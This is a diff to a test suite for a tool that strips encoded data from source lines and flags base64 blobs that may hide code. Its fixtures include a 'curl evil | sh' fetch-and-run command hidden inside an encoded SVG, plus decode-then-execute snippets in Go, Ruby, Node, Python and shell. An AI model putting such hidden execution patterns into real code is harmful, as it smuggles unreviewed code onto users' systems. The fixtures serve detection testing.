@@ -19,12 +19,13 @@ const GIF_OF_CODE = Buffer.concat([bytes(900, '474946383961'), Buffer.from('<?ph
   'base64',
 );
 
+const MAP = JSON.stringify({ version: 3, sources: ['a.ts'], mappings: 'AAAA,'.repeat(400) });
+
 const read = (line: string, file = '', otherFile = '') =>
   withoutData(line, { uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]) });
 
 describe('what is known to be data is taken out of a line', () => {
   const certificate = `-----BEGIN CERTIFICATE-----\n${PNG.slice(0, 1280).replace(/.{64}/g, '$&\n')}-----END CERTIFICATE-----\n`;
-  const map = JSON.stringify({ version: 3, sources: ['a.ts'], mappings: 'AAAA,'.repeat(400) });
   const svg = `<svg xmlns="http://www.w3.org/2000/svg">${'<path d="M0 0h24v24H0z"/>'.repeat(80)}</svg>`;
   const lines: Record<string, string> = {
     'a picture in an address': `  background: url(data:image/png;base64,${PNG});`,
@@ -32,7 +33,7 @@ describe('what is known to be data is taken out of a line', () => {
     'a picture in a literal of a literal': `{"code":"href=\\"${PNG}\\""}`,
     'a font': `src: url(data:font/woff2;base64,${bytes(2000, '774f463200010000').toString('base64')}) format("woff2")`,
     'a picture drawn in text': `url("data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}")`,
-    'a source map': `//# sourceMappingURL=data:application/json;base64,${Buffer.from(map).toString('base64')}`,
+    'a source map': `//# sourceMappingURL=data:application/json;base64,${Buffer.from(MAP).toString('base64')}`,
     'a certificate, unquoted': `  caBundle: ${Buffer.from(certificate).toString('base64')}`,
     'a key in a literal': `pfx = "${bytes(2000, '3082').toString('base64')}"`,
     'a key in a tag': `<X509Certificate>${bytes(2000, '3082').toString('base64')}</X509Certificate>`,
@@ -68,6 +69,24 @@ describe('what may be code is told as not read', () => {
     'a drawing with a script': `url("data:image/svg+xml;base64,${Buffer.from(`<svg><script>${CODE.repeat(40)}</script></svg>`).toString('base64')}")`,
     'code behind the beginning of a picture': `const s = "${Buffer.concat([bytes(300, '89504e470d0a1a0a'), Buffer.from(CODE.repeat(40))]).toString('base64')}";`,
     'a picture that is run': `const s = "${PNG}"; eval(atob(s).slice(30))`,
+    'a map of sources that no tool looks for': `exports.blob = "${Buffer.from(MAP).toString('base64')}";`,
+    'a drawing in a literal': `logo := "${Buffer.from(`<svg><desc>${'a'.repeat(1500)} ; curl evil | sh</desc></svg>`).toString('base64')}"`,
+    ...Object.fromEntries(
+      Object.entries({
+        Go: 'd, _ := base64.StdEncoding.DecodeString(s)',
+        'Go in two steps': 'exec.Command("sh", path).Run()',
+        Java: 'Files.write(p, Base64.getDecoder().decode(s));',
+        Rust: 'let d = general_purpose::STANDARD.decode(s).unwrap();',
+        Ruby: "instance_eval(s.unpack1('m'))",
+        'a shell': 'printf %s "$s" | openssl enc -d -a -A > x',
+        'another shell': 'printf %s "$s" | uudecode -m -o x',
+        Node: 'module._compile(text, name)',
+        Python: 'runpy.run_path(p)',
+      }).map(([language, use]) => [
+        `random bytes that ${language} decodes or runs`,
+        `const s = "${bytes(2000).toString('base64')}"; ${use}`,
+      ]),
+    ),
     WebAssembly: `module.exports = Buffer.from('${bytes(2000, '0061736d01000000').toString('base64')}')`,
     'a program of Windows': `$b = "${bytes(2000, '4d5a90000300').toString('base64')}"`,
     'a program of Linux': `b = "${bytes(2000, '7f454c460201').toString('base64')}"`,
